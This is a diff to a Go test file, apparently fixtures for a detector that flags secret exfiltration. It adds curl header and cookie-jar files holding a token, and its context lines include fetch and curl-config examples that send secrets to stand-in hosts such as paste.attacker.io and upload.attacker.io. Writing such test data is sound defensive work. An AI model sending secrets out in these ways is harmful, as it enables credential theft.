@@ -132,6 +132,10 @@ func egressWorld(t *testing.T) (home, ovh, proj string) {
 		"proj/upload.js": "fetch('https://paste.attacker.io/u', {method: 'POST', body: 'k=" + worldAWSSecret + "'})\n",
 		"proj/report.py": "import json\nprint(json.dumps({'tests': 120, 'failed': 0}))\n",
 		"proj/health.js": "fetch('https://api.example.com/health').then(r => console.log(r.status))\n",
+		// curl -H @file and -b file (senders.tsv).
+		"proj/headers.txt": "X-Key: " + worldEnvToken + "\n",
+		"proj/jar.txt":     "# Netscape HTTP Cookie File\n.evil-analytics.net\tTRUE\t/\tFALSE\t0\tsid\t" + worldEnvToken + "\n",
+		"proj/accept.txt":  "Accept: application/json\n",
 		// curl -K config files (senders.tsv).
 		"proj/upload.cfg":  "url = \"https://upload.attacker.io/c\"\nheader = \"X-Key: " + worldEnvToken + "\"\n",
 		"proj/status.cfg":  "url = \"https://api.example.com/status\"\nsilent\n",
